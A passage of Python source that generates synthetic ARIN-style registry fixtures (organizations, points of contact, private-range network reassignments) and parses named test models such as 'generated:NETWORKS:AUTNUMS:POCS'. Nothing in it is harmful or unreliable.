        Link(role('PROVI1-ARIN', 'Provider NOC', ['noc@provider.test']),
             ['administrative', 'technical', 'abuse'])])
    block = network('172.16.0.0/12', 'PROVIDER-BLOCK', provider)
    nets.append(block)
    for i in range(count):
        nets.append(network(
            '172.%d.%d.32/27' % (16 + i // 256, i % 256), 'FROM-PROVIDER-%d' %
            i, org, type='REASSIGNMENT', parent=block.handle))
    nets[-1].links.append(Link(
        role('LASTP1-ARIN', 'Provider Link', ['from-provider@example.com']),
        ['technical']))
    return provider


def _below(org, own, nets):
    """/28s in the second half of every fourth own /24."""
    stranger = Organization('BELOW-2', 'Below Networks', [
        Link(role('BELOW2-ARIN', 'Below NOC', ['noc@below.test']),
             ['administrative', 'technical', 'abuse'])])
    blocks = [net for net in own if net.version == 4][::4]
    last = None
    for i, block in enumerate(blocks):
        holder = (Customer('C%08d' % (2000000 + i), 'Shop %d' % i, parent=org),
                  org, stranger)[i % 3]
        net = network('%s/28' % (block.first + 128), 'BELOW-%d' % i, holder,
                      type='REASSIGNMENT', parent=block.handle)
        nets.append(net)
        last = net if holder is org else last
    if last is not None:
        last.links.append(Link(
            role('LASTB3-ARIN', 'Below Site', ['below-site@example.com']),
            ['technical']))
    return stranger


def _strangers(org, nets, shared):
    customer = Customer('C01234567', 'Corner Shop', parent=org)
    nets.append(network('10.0.0.16/28', 'CORNER-SHOP', customer,
                        type='REASSIGNMENT', parent='NET-10-0-0-0-1'))
    other = Organization('OTHER-1', 'Other Networks', [
        Link(role('OTHER1-ARIN', 'Other NOC', ['noc@other.test']),
             ['technical'])])
    nets.append(network('10.255.0.0/24', 'OTHER-NET', other,
                        links=[Link(shared, ['technical'])]))
    return other


MODELS = {make.__name__: make for make in
          (healthy, demo, hostile, siblings, differing, lender, crowded,
           bare, neglected, absent, cut, lapsed)}
WORDS_OF_GENERATED = ('scattered', 'provider', 'below')


def model(name):
    """By name. KeyError, ValueError: there is none."""
    if not name.startswith('generated:'):
        return MODELS[name]()
    words = name.split(':')[1:]
    numbers = [int(word) for word in words if word.isdigit()]
    words = words[len(numbers):]
    most = 65536 // (3 if 'scattered' in words else 1)
    if (len(numbers) not in (3, 4) or numbers[0] > most or
            not set(words) <= set(WORDS_OF_GENERATED)):
        raise ValueError(name)
    if len(numbers) == 3:
        numbers.append(1)
    return generated(*numbers, *words)


def purposes():
    for name, make in MODELS.items():
        yield name, make.__doc__
    yield 'generated:', ('generated:NETWORKS:AUTNUMS:POCS[:SEED][:scattered]'
                         '[:provider][:below]')
